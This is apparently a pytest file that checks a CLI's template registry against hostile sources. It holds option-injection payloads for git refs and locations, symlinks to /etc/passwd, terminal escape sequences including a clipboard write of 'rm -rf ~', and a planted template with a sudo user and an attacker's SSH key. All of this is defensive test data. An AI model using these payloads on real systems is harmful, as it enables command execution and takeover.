"""Hostile registry sources, through the real CLI and real git: refs that are git options, symbolic links
out of a source. Every case ends in a clear error (never a traceback) and runs nothing."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from pctl import library
from support.cli import run_pctl

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.invalid", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}


def git(*args, cwd=None, check=True):
    return subprocess.run(["git", *args], cwd=cwd, env=dict(os.environ, **GIT_ENV), check=check, capture_output=True,
                          text=True, timeout=60)


@pytest.fixture
def repo(tmp_path):
    """A bare repository (file://) with one template on branch main."""
    bare, work = tmp_path / "team.git", tmp_path / "work"
    git("init", "-q", "--bare", "-b", "main", str(bare))
    git("clone", "-q", str(bare), str(work))
    git("checkout", "-q", "-b", "main", cwd=work)
    shutil.copyfile(library.path_of("starter"), work / "starter-copy.yaml")
    git("add", "-A", cwd=work)
    git("commit", "-q", "-m", "one", cwd=work)
    git("push", "-q", "origin", "HEAD:main", cwd=work)
    return bare.as_uri(), work


def _config_path(home: Path) -> Path:
    from pctl.registry.paths import config_path

    return config_path()


def _set_ref(ref: str) -> None:
    """Edit config.toml (and the cache's meta.json) by hand, as an attacker with write access to either would."""
    from pctl.registry.config import toml_string
    from pctl.registry.paths import config_path, source_dir

    p = config_path()
    text = p.read_text()
    text = "\n".join(ln for ln in text.splitlines() if not ln.startswith("ref ="))
    text = text.replace('kind = "git"', f'kind = "git"\nref = {toml_string(ref)}')
    p.write_text(text + "\n")
    meta_p = source_dir("team") / "meta.json"
    if meta_p.exists():  # make pctl take the "fetch into the existing clone" path
        meta = json.loads(meta_p.read_text())
        meta["ref"] = ref
        meta_p.write_text(json.dumps(meta))


PAYLOADS = ["--upload-pack=touch {marker}", "--upload-pack=touch {marker} #", "-u touch {marker}",
            "--config=core.sshCommand=touch {marker}"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_ref_from_config_toml_that_is_a_git_option_runs_nothing(repo, tmp_path, _isolated_home, payload):
    url, _ = repo
    marker = tmp_path / "pwned"
    r = run_pctl("registry", "add", "team", url, "--ref", "main")
    assert r.returncode == 0, r.stderr
    _set_ref(payload.format(marker=marker))
    for args in (("registry", "update"), ("registry", "update", "team"), ("registry", "sources"),
                 ("registry", "list"), ("registry", "show", "team/starter-copy")):
        r = run_pctl(*args)
        assert r.returncode != 0, (args, r.stdout)
        assert "invalid git ref" in r.stderr and "[registry.sources.team]" in r.stderr, r.stderr
        assert "pctl registry remove team" in r.stderr and "Traceback" not in r.stderr
        assert not marker.exists()
    # the broken source can be removed, after which everything works again
    r = run_pctl("registry", "remove", "team")
    assert r.returncode == 0, r.stderr
    assert run_pctl("registry", "sources").returncode == 0
    assert not marker.exists()


def test_registry_add_refuses_a_ref_that_is_an_option(repo, tmp_path):
    url, _ = repo
    marker = tmp_path / "pwned"
    r = run_pctl("registry", "add", "team", url, "--ref", f"--upload-pack=touch {marker}")
    assert r.returncode == 2 and "invalid git ref" in r.stderr and "'-'" in r.stderr, r.stderr
    assert not marker.exists()
    assert "team" not in run_pctl("registry", "sources").stdout


def test_the_exploit_is_real_and_dashdash_stops_it_even_without_validation(repo, tmp_path, monkeypatch):
    """Control: plain `git fetch origin REF` runs the payload; pctl's own git calls (validation switched
    off) do not, because every ref and URL follows `--`."""
    url, _ = repo
    clone = tmp_path / "clone"
    git("clone", "-q", "--depth", "1", "--", url, str(clone))
    marker = tmp_path / "pwned-control"
    git("fetch", "--depth", "1", "origin", f"--upload-pack=touch {marker}", cwd=clone, check=False)
    assert marker.exists(), "the control did not reproduce the exploit: this test would prove nothing"

    from pctl.registry import fetch, sources
    from pctl.registry.config import SourceConfig

    monkeypatch.setattr(sources, "ref_problem", lambda ref: None)  # pretend validation missed it
    marker2 = tmp_path / "pwned-pctl"
    hostile = f"--upload-pack=touch {marker2}"
    cfg = SourceConfig("team", url, "git", hostile)
    from pctl.registry import store

    monkeypatch.setattr(store, "read_meta", lambda name: {"location": url, "ref": hostile})
    work = tmp_path / "cache"
    (work / "tree").mkdir(parents=True)
    shutil.copytree(clone / ".git", work / "tree" / ".git")
    with pytest.raises(fetch.UpdateError):  # the fetch fails, then the fresh clone fails: both cleanly
        fetch._update_git(cfg, work / "tree", work / "new")
    assert not marker2.exists()
    for args in (["fetch", "--", "origin", hostile], [f"--branch={hostile}", "--", url]):
        with pytest.raises(fetch.UpdateError):
            fetch.git(args if args[0] == "fetch" else ["clone", "--depth", "1", *args, str(tmp_path / "c2")],
                      cwd=work / "tree")
    assert not marker2.exists()


@pytest.mark.parametrize("location", ["--upload-pack=touch /tmp/x", "ext::sh -c touch% /tmp/x",
                                      "http://example.org/x.git", "ftp://example.org/x"])
def test_a_hostile_location_in_config_toml_is_refused(location, tmp_path):
    from pctl.registry.config import toml_string
    from pctl.registry.paths import config_path

    p = config_path()
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(f"[registry.sources.team]\nlocation = {toml_string(location)}\nkind = \"git\"\n")
    r = run_pctl("registry", "update")
    assert r.returncode == 1 and "[registry.sources.team]" in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert run_pctl("registry", "remove", "team").returncode == 0


# ---------------------------------------------------------------- symbolic links out of a source


def _secret_dir(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copyfile(library.path_of("starter"), outside / "private.yaml")
    return outside


def test_git_source_symlinks_outside_are_refused(repo, tmp_path, _isolated_home):
    url, work = repo
    outside = _secret_dir(tmp_path)
    os.symlink("/etc/passwd", work / "passwd.yaml")
    os.symlink(str(outside / "private.yaml"), work / "private.yaml")
    os.symlink(str(outside), work / "shared")
    os.symlink("starter-copy.yaml", work / "alias.yaml")  # a link inside the source is fine
    git("add", "-A", cwd=work)
    git("commit", "-q", "-m", "links", cwd=work)
    git("push", "-q", "origin", "HEAD:main", cwd=work)
    r = run_pctl("registry", "add", "team", url)
    assert r.returncode == 0, r.stderr
    for name in ("passwd.yaml", "private.yaml", "shared"):
        assert f"skipped {name}: a symbolic link to " in r.stderr and "outside the source; refused" in r.stderr
    listed = {t["name"] for t in json.loads(run_pctl("registry", "list", "--source", "team", "--json").stdout)["templates"]}
    assert listed == {"team/starter-copy", "team/alias"}
    for name in ("team/passwd", "team/private", "team/shared/private", "passwd", "private"):
        r = run_pctl("registry", "get", name)
        assert r.returncode == 2 and "root:" not in r.stdout and "Traceback" not in r.stderr, (name, r.stdout)
        r = run_pctl("registry", "show", name)
        assert r.returncode == 2 and "root:" not in r.stdout, name


def test_directory_source_symlinks_outside_are_refused(tmp_path):
    src = tmp_path / "lab"
    src.mkdir()
    shutil.copyfile(library.path_of("starter"), src / "ok.yaml")
    outside = _secret_dir(tmp_path)
    os.symlink("/etc/passwd", src / "passwd.yaml")
    os.symlink(str(outside), src / "shared")
    os.symlink(str(outside / "private.yaml"), src / "private.yaml")
    r = run_pctl("registry", "add", "lab", str(src))
    assert r.returncode == 0, r.stderr
    assert "passwd.yaml: a symbolic link to /etc/passwd, outside the source; refused" in r.stderr
    assert "shared: a symbolic link to" in r.stderr and "private.yaml: a symbolic link to" in r.stderr
    from pctl.registry.paths import source_dir

    tree = source_dir("lab") / "tree"
    assert sorted(p.name for p in tree.rglob("*")) == ["ok.yaml"]  # nothing of /etc or outside/ was copied
    r = run_pctl("registry", "index", str(src))
    assert r.returncode == 1 and not (src / "index.json").exists()
    assert "passwd.yaml" in r.stdout + r.stderr


def test_a_cache_entry_swapped_for_a_link_is_not_served(repo, tmp_path, _isolated_home):
    """entries.json names a file; if the file became a link to outside afterwards, it is not served."""
    url, _ = repo
    assert run_pctl("registry", "add", "team", url).returncode == 0
    from pctl.registry.paths import source_dir

    p = source_dir("team") / "tree" / "starter-copy.yaml"
    p.unlink()
    os.symlink("/etc/passwd", p)
    r = run_pctl("registry", "get", "team/starter-copy")
    assert r.returncode == 2 and "root:" not in r.stdout


# ---------------------------------------------------------------- what a fetched template asks you to trust

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl mallory@evil"
KEY_FP = "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
PLANTED = f"""\
metadata:
  title: "Friendly genomics\\e]0;pwned\\a\\e[2J"
  description: "Looks harmless.\\e]8;;https://evil.example\\e\\\\click here\\e]8;;\\e\\\\ \\e]52;c;cm0gLXJmIH4=\\a\\x9b31m"
  tags: [genomics]
cluster: {{name: friendly, region: us-east-1}}
compute:
  head_node: t3.large
  queues: [{{name: cpu, instance_types: [c6i.xlarge]}}]
software:
  spack_packages: [samtools@1.21]
  mirrors:
    - url: https://cache.evil.example/spack
      allow_unsigned: true
users:
  - {{name: helper, uid: 5001, sudo: true, ssh_public_keys: ["{KEY}"]}}
"""
ESCAPES = ("\x1b", "\x07", "\x9b")


def _no_escapes(text: str) -> None:
    assert not any(c in text for c in ESCAPES), repr(text)


def test_a_fetched_template_that_plants_sudo_and_an_unsigned_mirror_is_flagged(repo, tmp_path):
    url, work = repo
    (work / "friendly.yaml").write_text(PLANTED)
    git("add", "-A", cwd=work)
    git("commit", "-q", "-m", "planted", cwd=work)
    git("push", "-q", "origin", "HEAD:main", cwd=work)
    assert run_pctl("registry", "add", "team", url).returncode == 0
    r = run_pctl("registry", "get", "team/friendly")
    assert r.returncode == 0 and r.stdout == PLANTED  # verbatim: it is a copy of the file
    assert f"warning: registry:team/friendly: sudo (root) for helper: {KEY_FP}" in r.stderr
    assert "UNSIGNED Spack mirror https://cache.evil.example/spack" in r.stderr
    r = run_pctl("registry", "get", "team/friendly", "-o", str(tmp_path / "copy.yaml"))
    assert r.returncode == 0 and "sudo (root) for helper" in r.stderr
    r = run_pctl("registry", "show", "team/friendly")
    assert r.returncode == 0, r.stderr
    _no_escapes(r.stdout + r.stderr)
    assert "Friendly genomics" in r.stdout and "click here" in r.stdout
    assert f"helper (uid 5001): 256 {KEY_FP} mallory@evil (ED25519)" in r.stdout
    assert "3. https://cache.evil.example/spack  UNSIGNED (allow_unsigned: true)" in r.stdout
    assert "sudo (root) for helper" in r.stderr
    j = run_pctl("registry", "show", "team/friendly", "--json")
    _no_escapes(j.stdout)  # JSON keeps the data, escaped (\u001b), never raw
    doc = json.loads(j.stdout)
    assert doc["title"].startswith("Friendly genomics\x1b]0;pwned")
    assert doc["trust"]["unsigned_mirrors"] == ["https://cache.evil.example/spack"]
    for args in (("registry", "list"), ("registry", "search", "genomics"), ("registry", "list", "--json")):
        r = run_pctl(*args)
        assert r.returncode == 0, r.stderr
        _no_escapes(r.stdout + r.stderr)
    assert "Friendly genomics" in run_pctl("registry", "list").stdout
    # a library template with a sudo user is described, not flagged
    r = run_pctl("registry", "get", "general/teaching")
    assert r.returncode == 0 and "sudo (root)" not in r.stderr


def test_git_error_text_reaches_the_terminal_without_escapes(repo, tmp_path):
    """git's own message (it relays the server's words: 'remote: ...') is shown, its escape sequences are not."""
    url, _ = repo
    fake = tmp_path / "bin" / "git"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\nprintf 'remote: \\033]0;pwned\\007\\033[2Jfatal: access denied\\n' >&2\nexit 128\n")
    fake.chmod(0o755)
    env = {"PATH": f"{fake.parent}{os.pathsep}{os.environ['PATH']}"}
    from pctl.registry.config import SourceConfig, save_sources

    save_sources([SourceConfig("team", url, "git")])
    r = run_pctl("registry", "update", env=env)
    assert r.returncode == 1 and "team: git clone failed: remote: fatal: access denied" in r.stderr, r.stderr
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr and "Traceback" not in r.stderr
    r = run_pctl("registry", "add", "other", url, env=env)
    assert r.returncode == 1 and "access denied" in r.stderr and "\x1b" not in r.stderr
